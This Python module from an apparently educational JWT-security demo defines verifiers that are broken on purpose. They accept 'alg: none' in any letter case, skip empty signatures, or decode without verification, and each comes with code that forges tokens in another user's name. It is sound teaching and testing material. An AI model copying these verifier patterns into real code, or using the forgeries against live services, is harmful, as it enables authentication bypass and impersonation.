"""`alg: none`, and other tokens whose signature nobody checks.

The token says in its header that it is not signed, or it brings no
signature, and the verifier believes it.  Source: RFC 8725 sections 2.1
and 3.2, CWE-347.
"""

from functools import partial
from typing import Any

import jwt

from demo.attacks.base import Attack, Attacker, with_token
from demo.attacks.forging import alices_claims, header, unsigned, unverified
from demo.attacks.turning import Flip, overriding
from demo.contenders import contender
from demo.errors import BadSignature
from demo.harness import Client
from demo.harness.tokens import part
from demo.schemes import JWT

# A verifier that knows an algorithm "none"


class AcceptsNone(JWT):
    """Overrides `decode`: a token that says "none" is read unchecked."""

    def decode(self, token: str) -> dict[str, Any]:
        if jwt.get_unverified_header(token)["alg"].lower() == "none":
            return unsigned(self, token)
        return super().decode(token)


TAKES_NONE = Flip(
    "algorithm", '"none" is one too', overriding(JWT, AcceptsNone)
)


def forge_unsigned(attacker: Attacker, algorithm: str) -> Client:
    """Alice's claims under this algorithm, and an empty third part."""
    claims = part(alices_claims(attacker))
    first = part(header(attacker, alg=algorithm))
    return with_token(attacker, f"{first}.{claims}.")


ALG_NONE = Attack(
    id="alg-none",
    name="alg: none",
    claim='A token that says "unsigned" enters without a signature.',
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=partial(forge_unsigned, algorithm="none"),
    fixed=contender("JWT RS256"),
    flip=TAKES_NONE,
    chapter="forge-the-token",
    releases=("authlib_alg_none", "jws_alg_none", "jsonwebtoken_unset_secret"),
)

# A verifier that refuses one spelling of "none"


class RefusesOneWord(JWT):
    """Overrides `decode`: it refuses "none" in small letters, and then
    looks the algorithm up without regard to case."""

    def decode(self, token: str) -> dict[str, Any]:
        algorithm = unverified(token, "alg") or ""
        if algorithm == "none":
            raise BadSignature("not signed")
        if algorithm.lower() == "none":
            return unsigned(self, token)
        return super().decode(token)


REFUSES_ONE_WORD = Flip(
    "algorithm", 'all but "none", so spelled', overriding(JWT, RefusesOneWord)
)

NONE_IN_ANY_CASE = tuple(
    Attack(
        id=id,
        name=f"alg: {word}",
        claim=f'A filter for "none" lets "{word}" through.',
        family="signature",
        source="RFC 7515 section 4.1.1, CWE-178",
        forge=partial(forge_unsigned, algorithm=word),
        fixed=contender("JWT RS256"),
        flip=REFUSES_ONE_WORD,
        chapter="forge-the-token",
    )
    for word, id in {
        "None": "none-capital",
        "NONE": "none-capitals",
        "nOnE": "none-mixed",
    }.items()
)

# A verifier that checks a signature only if there is one


class SkipsEmpty(JWT):
    """Overrides `decode`: where no signature is sent, it checks none."""

    def decode(self, token: str) -> dict[str, Any]:
        first, payload, signature = (token + "..").split(".")[:3]
        if not signature:
            return unsigned(self, f"{first}.{payload}.")
        return super().decode(token)


SKIPS_EMPTY = Flip(
    "signature", "checked if there is one", overriding(JWT, SkipsEmpty)
)


def stripped(attacker: Attacker, ending: str) -> Client:
    """The header promises a signature; nothing follows the payload."""
    claims = alices_claims(attacker)
    algorithm = attacker.service.contender.algorithm
    first = part(header(attacker, alg=algorithm))
    return with_token(attacker, f"{first}.{part(claims)}{ending}")


by_stripping = partial(
    Attack,
    family="signature",
    source="RFC 7515 section 5.2, CWE-347",
    fixed=contender("JWT RS256"),
    flip=SKIPS_EMPTY,
    chapter="forge-the-token",
)
STRIPPED_TO_TWO = by_stripping(
    id="stripped-to-two",
    name="two parts out of three",
    claim="A token without its third part is not checked.",
    forge=partial(stripped, ending=""),
)
STRIPPED_TO_DOT = by_stripping(
    id="stripped-to-dot",
    name="an empty third part",
    claim="A token with an empty third part is not checked.",
    forge=partial(stripped, ending="."),
)

# Code that only reads the token


class ReadsOnly(JWT):
    """Overrides `decode`: it asks for the claims, and verifies nothing."""

    def decode(self, token: str) -> dict[str, Any]:
        asked = [*self.required]
        return jwt.decode_complete(
            token, options={"verify_signature": False, "require": asked}
        )


READS_ONLY = Flip(
    "signature",
    "not verified",
    overriding(JWT, ReadsOnly),
    tempting="option: PyJWT, verify_signature",
)


def edited(attacker: Attacker) -> Client:
    """Mallory's own token, with Alice's name in it."""
    claims = alices_claims(attacker)
    first, _, last = attacker.me.credential().split(".")
    return with_token(attacker, f"{first}.{part(claims)}.{last}")


EDITED_PAYLOAD = Attack(
    id="edited-payload",
    name="a token changed after it was signed",
    claim="Where a token is only decoded, a name in it can be changed.",
    family="signature",
    source="CWE-347, OWASP JSON Web Token Cheat Sheet",
    forge=edited,
    fixed=contender("JWT HS256"),
    flip=READS_ONLY,
    chapter="forge-the-token",
    releases=("pyjwt_no_list",),
)

ATTACKS = (
    ALG_NONE,
    *NONE_IN_ANY_CASE,
    STRIPPED_TO_TWO,
    STRIPPED_TO_DOT,
    EDITED_PAYLOAD,
)
